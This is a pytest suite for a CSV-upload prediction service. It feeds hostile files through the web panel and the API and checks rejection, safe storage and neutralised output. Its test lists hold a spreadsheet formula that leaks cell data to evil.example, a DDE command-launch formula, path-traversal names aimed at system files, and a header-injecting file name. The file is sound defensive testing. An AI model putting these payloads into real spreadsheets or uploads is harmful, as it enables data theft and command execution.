"""Hostile input through both entrances, the panel upload and the JSON API, on SQLite and
MariaDB: every file of the corpus (tests/data/hostile/, expectations in tests/hostile_cases.py),
generated big files (a very long line, 10,000 columns, just over and exactly at UPLOAD_LIMIT),
path-traversal file names and spreadsheet formulas in a passthrough column.

A rejected file answers a 4xx whose problems name it (with row and column where the corpus
says so) and leaves nothing behind: no file in INPUT_DIR, no job row. An accepted file becomes a
job that a real worker run takes to PROCESS OK, and the result downloaded through the same
entrance is checked cell by cell against the uploaded CSV (read independently with the csv
module): row count, every input column, the prediction columns, and no live formula anywhere.
"""

from __future__ import annotations

import csv
import html
import io
import re
import threading
import zipfile
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from starlette.testclient import TestClient

from app.core.jobs.listing import JobFilter, JobList
from app.core.jobs.records import Job, Status
from app.web import create_app
from model.inputs.conversions import MISSING_WORDS
from model.inputs.report import CsvReport
from model.inputs.scan import inspect_csv
from model.loading import load_model
from model.results.cells import FORMULA_START, is_plain_number
from model.results.xlsx import MAX_CELL_CHARS
from scheduler.worker import Worker
from tests.conftest import breast_cancer_frame
from tests.hostile_cases import HOSTILE_CASES, HOSTILE_DIR, HostileCase
from tests.panel_helpers import login, problems_of

ENTRANCES = ("panel", "api")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
STORED_NAME = re.compile(r"upload-[0-9a-f]{32}\.csv")


# -- the two entrances ------------------------------------------------------------------------------
@dataclass
class Outcome:
    """What an upload answered, the same shape for both entrances."""

    status: int
    job_id: int | None = None
    message: str = ""
    problems: list[dict[str, Any]] = field(default_factory=list)  # {"row", "column", "message"}
    text: str = ""


class Entrance:
    """Upload and download through the panel (session + CSRF) or the API (Bearer token)."""

    def __init__(self, kind: str, client: TestClient, headers: dict[str, str] | None = None,
                 csrf: str | None = None) -> None:
        self.kind, self.client, self.headers, self.csrf = kind, client, headers or {}, csrf

    def upload(self, name: str, content: bytes) -> Outcome:
        files = {"file": (name, content, "text/csv")}
        if self.kind == "api":
            response = self.client.post("/api/jobs", headers=self.headers, files=files)
            assert "Traceback" not in response.text
            body = response.json()
            if response.status_code == 201:
                assert response.headers["location"] == f"/api/jobs/{body['id']}"
                return Outcome(201, job_id=body["id"], text=response.text)
            assert response.headers["content-type"].startswith("application/json")
            assert body["status"] == response.status_code and body["error"]
            return Outcome(response.status_code, message=body["error"], problems=body.get("errors", []),
                           text=response.text)
        response = self.client.post("/jobs/upload", data={"csrf_token": self.csrf}, files=files,
                                    follow_redirects=False)
        assert "Traceback" not in response.text
        if response.status_code == 303:
            match = re.fullmatch(r"/jobs#job-(\d+)", response.headers["location"])
            assert match, response.headers["location"]
            return Outcome(303, job_id=int(match.group(1)))
        assert response.headers["content-type"].startswith("text/html")
        shown = re.search(r'id="upload-problems".*?<strong>(.*?)</strong>', response.text, re.S)
        assert shown, "the panel shows no upload error"
        problems = [{"row": None if row == "—" else int(row), "column": None if column == "—" else column,
                     "message": message} for row, column, message in problems_of(response.text)]
        return Outcome(response.status_code, message=html.unescape(shown.group(1)), problems=problems,
                       text=response.text)

    def download(self, job_id: int, fmt: str, dialect: str = "rfc4180") -> bytes:
        """The result; a CSV by default as stored (",", ".", UTF-8), dialect="excel" in the
        upload's own convention."""
        if self.kind == "api":
            query = f"?format=csv&dialect={dialect}" if fmt == "csv" else ""
            response = self.client.get(f"/api/jobs/{job_id}/result{query}", headers=self.headers)
        else:
            query = f"?dialect={dialect}" if fmt == "csv" else ""
            response = self.client.get(f"/jobs/{job_id}/result.{fmt}{query}")
        assert response.status_code == 200, response.text[:500]
        expected = XLSX_TYPE if fmt == "xlsx" else "text/csv"
        assert response.headers["content-type"].startswith(expected)
        assert "\r" not in response.headers["content-disposition"] and "\n" not in response.headers["content-disposition"]
        return response.content


@pytest.fixture
def open_entrance(alice, bearer):  # type: ignore[no-untyped-def]
    """open_entrance(kind, app) -> an Entrance signed in as alice; clients closed at teardown."""
    clients: list[TestClient] = []

    def make(kind: str, app) -> Entrance:  # type: ignore[no-untyped-def]
        client = TestClient(app)
        client.__enter__()
        clients.append(client)
        if kind == "api":
            return Entrance(kind, client, headers=bearer(alice))
        return Entrance(kind, client, csrf=login(client, "alice", "alice-password-1"))

    yield make
    for client in clients:
        client.__exit__(None, None, None)


@pytest.fixture(params=ENTRANCES)
def entrance(request, app, open_entrance) -> Entrance:  # type: ignore[no-untyped-def]
    return open_entrance(request.param, app)


# -- checks -----------------------------------------------------------------------------------------
def stored_files(settings) -> list[str]:  # type: ignore[no-untyped-def]
    """Everything in INPUT_DIR, hidden .part files included."""
    return sorted(p.name for p in settings.input_dir.iterdir()) if settings.input_dir.exists() else []


def assert_nothing_stored(settings, jobs) -> None:  # type: ignore[no-untyped-def]
    assert stored_files(settings) == []
    assert JobList(jobs.db).count(JobFilter(owner_id=None, archived=None)) == 0
    assert not settings.output_dir.exists() or list(settings.output_dir.iterdir()) == []


def assert_rejected(outcome: Outcome, case: HostileCase) -> None:
    """A 422 whose problems contain the corpus message, at the row and column it names."""
    assert outcome.status == 422, outcome.text[:500]
    assert "not accepted" in outcome.message
    matching = [p for p in outcome.problems if case.message in p["message"]]
    assert matching, (case.message, outcome.problems)
    problem = matching[0]
    named_row = re.search(r"\bRow (\d+)", problem["message"])
    named_column = re.search(r"[Cc]olumn '([^']+)'", problem["message"])
    if named_row:
        assert problem["row"] == int(named_row.group(1)), problem
    if named_column:
        assert problem["column"] == named_column.group(1), problem
    if re.search(r"\bRow (\d+)", case.message):  # the corpus names the row: it must be there
        assert problem["row"] is not None


def drain(settings, db, timeout: float = 180) -> list[Job]:  # type: ignore[no-untyped-def]
    """A real worker run over the queue, in a thread so a hung worker fails the test instead of
    hanging it."""
    result: dict[str, Any] = {}

    def run() -> None:
        try:
            result["jobs"] = Worker(settings, db).drain()
        except BaseException as exc:  # reported below, in the test's thread
            result["error"] = exc
        finally:
            db.close()  # this thread's connection

    thread = threading.Thread(target=run, name="test-drain", daemon=True)
    thread.start()
    thread.join(timeout)
    assert not thread.is_alive(), f"the worker did not finish within {timeout} s"
    if "error" in result:
        raise result["error"]
    return result["jobs"]


def guarded(text: str) -> str:
    # also after leading whitespace (LibreOffice's "Trim spaces" import drops it); numbers stay
    head = text.lstrip()
    formula = text.startswith(("\t", "\r")) or head.startswith(FORMULA_START) and not is_plain_number(head)
    return "'" + text if formula else text


def source_table(path: Path, report: CsvReport, numbers: list[int] | None = None) -> tuple[list[str], list[list[str]]]:
    """(header, data rows) of an accepted CSV, read with the csv module (not the code under
    test): blank lines skipped as the validator documents.  numbers, when given, receives each
    data row's spreadsheet row number (every record counts, blank ones too)."""
    fmt = report.format
    assert fmt is not None
    blank_chars = " \t".replace(fmt.delimiter, "")
    with open(path, encoding=fmt.encoding, newline="") as handle:
        records = [(n, r) for n, r in enumerate(csv.reader(handle, delimiter=fmt.delimiter), start=1)
                   if r and not (len(r) == 1 and r[0].strip(blank_chars) == "")]
    if numbers is not None:
        numbers += [n for n, _ in records[1:]]
    return records[0][1], [r for _, r in records[1:]]


def expected_feature(text: str, decimal: str) -> float | None:
    text = text.strip()
    if text.lower() in MISSING_WORDS:
        return None
    return float(text.replace(",", ".") if decimal == "," else text)


def assert_no_live_formula_in_workbook(content: bytes) -> openpyxl.Workbook:
    """No formula element in any sheet's XML, and every string cell of every sheet that would
    start a formula carries the leading apostrophe instead."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
    book = openpyxl.load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                    assert not cell.value.startswith(FORMULA_START), (sheet.title, cell.coordinate, cell.value)
    return book


def assert_csv_guarded(rows: list[list[str]]) -> None:
    for row in rows:
        for value in row:
            assert not value.startswith(FORMULA_START) or is_plain_number(value), value


def check_result(entrance: Entrance, job: Job, source: Path, model_dir: Path) -> tuple[list[tuple], list[list[str]]]:
    """Download both results through the entrance and check them against the source CSV.
    Returns (xlsx rows as values, result CSV rows) for further checks."""
    model = load_model(model_dir)
    report = inspect_csv(source, model.features)
    assert report.ok and report.format is not None
    numbers: list[int] = []
    header, records = source_table(source, report, numbers)
    assert len(records) == report.rows == job.rows_total == job.rows_done
    row_ids = [f"{job.id}-{n}" for n in numbers]  # first in both files, then as the checks below say
    out_columns = ["prediction", "probability", "row_status"]
    features = {report.feature_columns[f] for f in model.features}
    n_in = len(report.header)
    decimal = report.format.decimal

    book = assert_no_live_formula_in_workbook(entrance.download(job.id, "xlsx"))
    assert book.sheetnames == ["predictions", "summary", "quality"]
    values = list(book["predictions"].iter_rows(values_only=True))
    assert len(values) == report.rows + 1
    assert [row[0] for row in values] == ["row_id", *row_ids]
    values = [row[1:] for row in values]
    assert ["" if v is None else v for v in values[0]] == [guarded(h) for h in report.header] + out_columns
    classes = {"malignant", "benign"}
    for number, (record, got) in enumerate(zip(records, values[1:]), start=2):
        assert len(record) == n_in and len(got) == n_in + 3, number
        for i, text in enumerate(record):
            cell = got[i]
            where = (number, report.header[i], text[:60], cell if not isinstance(cell, str) else cell[:60])
            if i in features:
                wanted = expected_feature(text, decimal)
                assert (cell is None) if wanted is None else cell == pytest.approx(wanted, rel=1e-12), where
            elif text == "":
                assert cell is None, where
            elif is_plain_number(text):
                assert isinstance(cell, (int, float)) and cell == float(text), where
            else:
                # Text passes through unchanged but for the formula guard (and Excel's cell size).
                assert cell == guarded(text)[:MAX_CELL_CHARS], where
        if got[n_in + 2] == "no data: every feature is empty":  # not scored, and said why
            assert got[n_in] is None and got[n_in + 1] is None, number
        else:
            assert got[n_in] in classes and 0.0 <= got[n_in + 1] <= 1.0, number
    summary = dict(book["summary"].iter_rows(values_only=True))
    assert summary["rows"] == report.rows and summary["input file"] == guarded(job.file_name)
    book.close()

    result = list(csv.reader(io.StringIO(entrance.download(job.id, "csv").decode("utf-8-sig"), newline="")))
    assert len(result) == report.rows + 1
    assert [row[0] for row in result] == ["row_id", *row_ids]
    result = [row[1:] for row in result]
    assert result[0] == [guarded(h) for h in report.header] + out_columns
    assert_csv_guarded(result)
    for number, (record, got) in enumerate(zip(records, result[1:]), start=2):
        for i, text in enumerate(record):
            if i in features:
                wanted = expected_feature(text, decimal)
                assert (got[i] == "") if wanted is None else float(got[i]) == pytest.approx(wanted, rel=1e-12), number
            else:
                assert got[i] == (text if is_plain_number(text) else guarded(text)), (number, i)
        # the CSV twin predicts exactly what the workbook does
        assert got[n_in] == (values[number - 1][n_in] or ""), number
        assert got[n_in + 2] == (values[number - 1][n_in + 2] or ""), number
        if got[n_in]:
            assert float(got[n_in + 1]) == pytest.approx(values[number - 1][n_in + 1], rel=1e-12)
    return values, result


def accept_and_process(entrance: Entrance, settings, db, jobs, name: str, source: Path, model_dir: Path):  # type: ignore[no-untyped-def]
    """Upload, check the PENDING job and its stored copy, run a real worker, check the results."""
    before = set(stored_files(settings))
    outcome = entrance.upload(name, source.read_bytes())
    assert outcome.status == (201 if entrance.kind == "api" else 303), (outcome.message, outcome.problems)
    job = jobs.get(outcome.job_id)
    assert job is not None and job.status is Status.PENDING
    new = set(stored_files(settings)) - before
    assert new == {job.path_up} and STORED_NAME.fullmatch(job.path_up), new
    assert (settings.input_dir / job.path_up).read_bytes() == source.read_bytes()
    done = drain(settings, db)
    assert [j.id for j in done] == [job.id]
    job = jobs.get(job.id)
    assert job.status is Status.PROCESS_OK, job.error_message
    assert jobs.status_counts(None)["PENDING"] == jobs.status_counts(None)["IN PROCESS"] == 0
    return job, check_result(entrance, job, source, model_dir)


# -- the corpus -------------------------------------------------------------------------------------
@pytest.mark.parametrize("case", [c for c in HOSTILE_CASES if not c.accepted], ids=lambda c: c.filename)
def test_each_rejected_file_is_a_422_naming_the_problem_and_stores_nothing(entrance, settings, jobs, case) -> None:  # type: ignore[no-untyped-def]
    outcome = entrance.upload(case.filename, (HOSTILE_DIR / case.filename).read_bytes())
    assert_rejected(outcome, case)
    if entrance.kind == "panel":
        assert f"“{case.filename}”" in html.unescape(outcome.text) and "Nothing was stored" in outcome.text
    else:
        assert outcome.problems and all(set(p) == {"row", "column", "message"} for p in outcome.problems)
    assert_nothing_stored(settings, jobs)


@pytest.mark.parametrize("case", [c for c in HOSTILE_CASES if c.accepted], ids=lambda c: c.filename)
def test_each_accepted_file_is_processed_to_a_correct_result(  # type: ignore[no-untyped-def]
        entrance, settings, db, jobs, model_dir, case) -> None:
    accept_and_process(entrance, settings, db, jobs, case.filename, HOSTILE_DIR / case.filename, model_dir)


def test_the_whole_corpus_in_one_queue_loses_nothing(app, open_entrance, settings, db, jobs) -> None:  # type: ignore[no-untyped-def]
    """Every file through both entrances at once, then one worker run: each accepted upload is
    exactly one job that ends PROCESS OK, with exactly one pair of result files."""
    accepted = []
    for kind in ENTRANCES:
        entrance = open_entrance(kind, app)
        for case in HOSTILE_CASES:
            outcome = entrance.upload(case.filename, (HOSTILE_DIR / case.filename).read_bytes())
            assert (outcome.job_id is not None) == case.accepted, (kind, case.filename, outcome.problems)
            if case.accepted:
                accepted.append(outcome.job_id)
    assert len(stored_files(settings)) == len(accepted) == 2 * sum(c.accepted for c in HOSTILE_CASES)
    done = drain(settings, db)
    assert sorted(j.id for j in done) == sorted(accepted)
    assert all(j.status is Status.PROCESS_OK for j in done), [(j.file_name, j.error_message) for j in done]
    assert jobs.status_counts(None) == {"PENDING": 0, "IN PROCESS": 0, "PROCESS OK": len(accepted), "ERROR": 0,
                                        "CANCELLED": 0}
    results = sorted(p.name for p in settings.output_dir.iterdir())
    assert len(results) == 2 * len(accepted) and not [n for n in results if n.startswith(".")]


# -- generated big files ------------------------------------------------------------------------------
def feature_rows(rows: int, seed: int = 0) -> tuple[list[str], list[list[str]]]:
    frame = breast_cancer_frame(rows, seed).drop(columns=["diagnosis"])
    header = list(frame.columns)
    return header, [[str(v) for v in record] for record in frame.itertuples(index=False)]


def write_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    with open(path, "w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows([header, *rows])
    return path


def test_a_single_very_long_line_is_rejected_naming_its_row(entrance, settings, jobs, tmp_path) -> None:  # type: ignore[no-untyped-def]
    one_line = b"1234567890," * 1_000_000  # 11 MB without a line break
    outcome = entrance.upload("one-line.csv", one_line)
    assert_rejected(outcome, HostileCase("one-line.csv", False, "Row 1 is longer than 10,000,000 characters"))
    assert_nothing_stored(settings, jobs)
    header, rows = feature_rows(3)
    text = "\n".join(",".join(r) for r in [header + ["note"]] + [r + ["ok"] for r in rows])
    buried = text + "\n" + ",".join(rows[0]) + ',"' + "x" * 200_000 + '"\n'  # row 5: a 200,000-char value
    outcome = entrance.upload("long-value.csv", buried.encode())
    assert_rejected(outcome, HostileCase("long-value.csv", False, "Row 5 has a value longer than"))
    assert_nothing_stored(settings, jobs)


def test_a_long_passthrough_value_is_accepted_and_kept(entrance, settings, db, jobs, model_dir, tmp_path) -> None:  # type: ignore[no-untyped-def]
    header, rows = feature_rows(4)
    notes = ["x" * 100_000, "=" + "A1&" * 20_000, "short", "ñ" * 40_000]  # under the csv module's limit
    source = write_csv(tmp_path / "long.csv", header + ["note"], [r + [n] for r, n in zip(rows, notes)])
    _, (values, result) = accept_and_process(entrance, settings, db, jobs, "long.csv", source, model_dir)
    # The workbook keeps what fits in an Excel cell; the CSV keeps everything.
    assert [len(v[len(header)]) for v in values[1:]] == [MAX_CELL_CHARS, MAX_CELL_CHARS, 5, MAX_CELL_CHARS]
    assert [r[len(header)] for r in result[1:]] == [notes[0], "'" + notes[1], "short", notes[3]]


@pytest.mark.slow
def test_ten_thousand_columns_are_processed(entrance, settings, db, jobs, model_dir, tmp_path) -> None:  # type: ignore[no-untyped-def]
    header, rows = feature_rows(5)
    extra = [f"extra {i}" for i in range(10_000 - len(header))]
    cells = ["text", "-1", "=1+1", "", "007", "2.5"]
    source = write_csv(tmp_path / "wide.csv", header + extra,
                       [r + [cells[(i + k) % len(cells)] for i in range(len(extra))] for k, r in enumerate(rows)])
    _, (values, _) = accept_and_process(entrance, settings, db, jobs, "wide.csv", source, model_dir)
    assert len(values[0]) == 10_003 and values[0][-4:] == ("extra 9968", "prediction", "probability", "row_status")


def test_more_columns_than_supported_is_rejected(entrance, settings, jobs, tmp_path) -> None:  # type: ignore[no-untyped-def]
    header, rows = feature_rows(2)
    extra = [f"extra {i}" for i in range(20_000 - len(header))]
    source = write_csv(tmp_path / "too-wide.csv", header + extra, [r + ["1"] * len(extra) for r in rows])
    outcome = entrance.upload("too-wide.csv", source.read_bytes())
    assert_rejected(outcome, HostileCase("too-wide.csv", False, "The file has 20,000 columns; at most 16,000"))
    assert_nothing_stored(settings, jobs)


def exact_size_csv(size: int) -> bytes:
    """A valid CSV of exactly `size` bytes (a passthrough column pads the last row)."""
    header, rows = feature_rows(size // 150)
    lines = [",".join(header + ["pad"]) + "\n"]
    used = len(lines[0])
    last = ",".join(rows[0] + [""])
    for r in rows[1:]:
        line = ",".join(r + ["x"]) + "\n"
        if used + len(line) + len(last) + 10 > size:
            break
        lines.append(line)
        used += len(line)
    data = ("".join(lines) + last + "p" * (size - used - len(last) - 1) + "\n").encode()
    assert len(data) == size
    return data


@pytest.mark.parametrize("kind", ENTRANCES)
def test_an_upload_over_the_limit_says_its_size_and_how_to_make_it_fit(  # type: ignore[no-untyped-def]
        kind, settings, db, jobs, open_entrance) -> None:
    limit = 200 * 1024
    small = settings.replace(upload_limit=limit)
    entrance = open_entrance(kind, create_app(small, db))
    for data in (exact_size_csv(limit + 50 * 1024), exact_size_csv(limit) * 3):  # streamed / Content-Length
        over = entrance.upload("big.csv", data)
        assert over.status == 413, over.text[:300]
        size = float(over.message.split("(about ")[1].split(" KB)")[0])
        assert abs(size - len(data) / 1024) < 1.0, over.message  # the file's size (plus the form's few bytes)
        assert "larger than the upload limit of 200.0 KB" in over.message
        for remedy in (".csv.gz", ".zip", "Parquet", "split it"):
            assert remedy in over.message, over.message
    assert_nothing_stored(small, jobs)


@pytest.mark.parametrize("kind", ENTRANCES)
def test_upload_limit_just_over_is_413_and_exactly_at_is_accepted(  # type: ignore[no-untyped-def]
        kind, settings, db, jobs, open_entrance) -> None:
    limit = 200 * 1024
    small = settings.replace(upload_limit=limit)
    entrance = open_entrance(kind, create_app(small, db))
    over = entrance.upload("over.csv", exact_size_csv(limit + 1))  # caught while streaming
    assert over.status == 413 and "larger than the upload limit of 200.0 KB" in over.message, over.text[:300]
    assert_nothing_stored(small, jobs)
    huge = entrance.upload("huge.csv", exact_size_csv(limit) * 25)  # refused on Content-Length
    assert huge.status == 413
    assert_nothing_stored(small, jobs)
    at = entrance.upload("at.csv", exact_size_csv(limit))
    assert at.job_id is not None, (at.message, at.problems)
    job = jobs.get(at.job_id)
    assert job.file_size == limit and stored_files(small) == [job.path_up]


# -- file names -------------------------------------------------------------------------------------
TRAVERSAL_NAMES = [
    ("../../etc/passwd.csv", "passwd.csv"),
    ("..\\..\\x.csv", "x.csv"),
    ("/etc/passwd.csv", "passwd.csv"),
    ("C:\\Windows\\System32\\drivers\\etc\\hosts.csv", "hosts.csv"),
    ("....//....//y.csv", "y.csv"),
    ("../", "upload.csv"),
    ("\u202egnp.csv", "gnp.csv"),  # a right-to-left override that would show "csv.png"
    ("n" * 600 + ".csv", "n" * 255),
]
RAW_NAMES = [  # bytes a client may put in the multipart header unencoded
    (b"../../a\x00b.csv", "ab.csv"),
    (b"..\\x\nb.csv", "xb.csv"),
    (b"/tmp/\xc3\xa9t\xc3\xa9\x07.csv", "été.csv"),
]


def all_files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()}


def raw_upload(entrance: Entrance, raw_name: bytes, content: bytes):  # type: ignore[no-untyped-def]
    boundary = "hostile-boundary-1"
    parts = []
    if entrance.kind == "panel":
        parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n{entrance.csrf}\r\n'.encode())
    parts.append(f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="'.encode() + raw_name
                 + b'"\r\nContent-Type: text/csv\r\n\r\n' + content + b"\r\n")
    parts.append(f"--{boundary}--\r\n".encode())
    headers = {**entrance.headers, "Content-Type": f"multipart/form-data; boundary={boundary}"}
    path = "/api/jobs" if entrance.kind == "api" else "/jobs/upload"
    return entrance.client.post(path, headers=headers, content=b"".join(parts), follow_redirects=False)


def test_path_traversal_names_are_stored_under_a_generated_name_and_shown_harmless(  # type: ignore[no-untyped-def]
        entrance, settings, jobs, make_csv, tmp_path) -> None:
    content = make_csv(5, name="source.csv").read_bytes()
    before = all_files(tmp_path)
    expected_names = []
    for name, shown in TRAVERSAL_NAMES:
        outcome = entrance.upload(name, content)
        assert outcome.job_id is not None, (name, outcome.message)
        expected_names.append(shown)
    for raw, shown in RAW_NAMES:
        response = raw_upload(entrance, raw, content)
        assert response.status_code in (201, 303), (raw, response.text[:300])
        expected_names.append(shown)
    made = sorted(JobList(jobs.db).page(JobFilter(owner_id=None, archived=None), limit=100), key=lambda j: j.id)
    assert [j.file_name for j in made] == expected_names
    for job in made:
        assert STORED_NAME.fullmatch(job.path_up)
        assert not any(c in job.file_name for c in "/\\\x00\n\r\u202e")
        assert (settings.input_dir / job.path_up).read_bytes() == content
    # Nothing was written anywhere but INPUT_DIR (the database's own files aside).
    new = all_files(tmp_path) - before
    # Besides the uploads and the database, only the registry's copy of the default model (the
    # first upload registers it under MODELS_DIR) may appear.
    assert {p for p in new if p.parent != settings.input_dir and not p.name.startswith("beyond.sqlite3")
            and settings.models_dir not in p.parents} == set()
    assert sorted(stored_files(settings)) == sorted(j.path_up for j in made)
    assert not (tmp_path / "etc").exists() and not Path("/etc/passwd.csv").exists()
    # Shown as text: in the panel list and the API's JSON.
    if entrance.kind == "panel":
        page = entrance.client.get("/jobs").text
        assert "passwd.csv" in page and "../" not in page and "..\\" not in page and "\u202e" not in page
    else:
        listed = entrance.client.get("/api/jobs?limit=200", headers=entrance.headers).json()["jobs"]
        assert sorted(j["file_name"] for j in listed) == sorted(expected_names)


def test_a_name_the_multipart_parser_cannot_read_is_400_and_stores_nothing(entrance, settings, jobs, make_csv) -> None:  # type: ignore[no-untyped-def]
    content = make_csv(5).read_bytes()
    for raw in (b"a\rb.csv", b"a\r\nX-Evil: 1\r\nb.csv"):  # both break the part's header block
        response = raw_upload(entrance, raw, content)
        assert response.status_code == 400 and "Traceback" not in response.text, raw
    assert_nothing_stored(settings, jobs)


# -- formulas -----------------------------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"click")', "+1", "-1", "@SUM(1)", "\tleading tab",
    "\rleading CR", "=1+1", "-", "+", "@", "-1.5e3", "--1", "-0", "=cmd|' /C calc'!A0", " =not a formula",
    "+41 22 555 01 01", "-2+3", "1", "@@", "=", "-nan", "'already quoted",
]


def test_formula_cells_are_stored_as_text_and_numbers_stay_numbers(entrance, settings, db, jobs, model_dir, tmp_path) -> None:  # type: ignore[no-untyped-def]
    header, rows = feature_rows(len(FORMULAS))
    formula_header = '=HYPERLINK("http://evil.example")'
    source = write_csv(tmp_path / "formulas.csv", header + ["comment", formula_header, "@code"],
                       [r + [f, f, "-" + f] for r, f in zip(rows, FORMULAS)])
    job, (values, result) = accept_and_process(entrance, settings, db, jobs, "=cmd.csv", source, model_dir)
    n = len(header)
    assert values[0][n:n + 3] == ("comment", "'" + formula_header, "'@code")
    comments = {f: v[n] for f, v in zip(FORMULAS, values[1:])}
    assert comments['=HYPERLINK("http://evil.example/?leak="&A2,"click")'].startswith("'=HYPERLINK(")
    assert comments["+1"] == "'+1" and comments["@SUM(1)"] == "'@SUM(1)"
    assert comments["\tleading tab"] == "'\tleading tab" and comments["\rleading CR"] == "'\rleading CR"
    assert comments["-1"] == -1 and comments["-1.5e3"] == -1500 and comments["1"] == 1  # numbers stay numbers
    assert comments["-"] == "'-" and comments["--1"] == "'--1" and comments["-nan"] == "'-nan"
    assert comments[" =not a formula"] == "' =not a formula" and comments["'already quoted"] == "'already quoted"
    csv_comments = {f: r[n] for f, r in zip(FORMULAS, result[1:])}
    assert csv_comments["-1"] == "-1" and csv_comments["+1"] == "'+1" and csv_comments["=1+1"] == "'=1+1"
    assert csv_comments["\rleading CR"] == "'\rleading CR"
    assert job.file_name == "=cmd.csv"  # the user's name is kept; the summary sheet shows it guarded
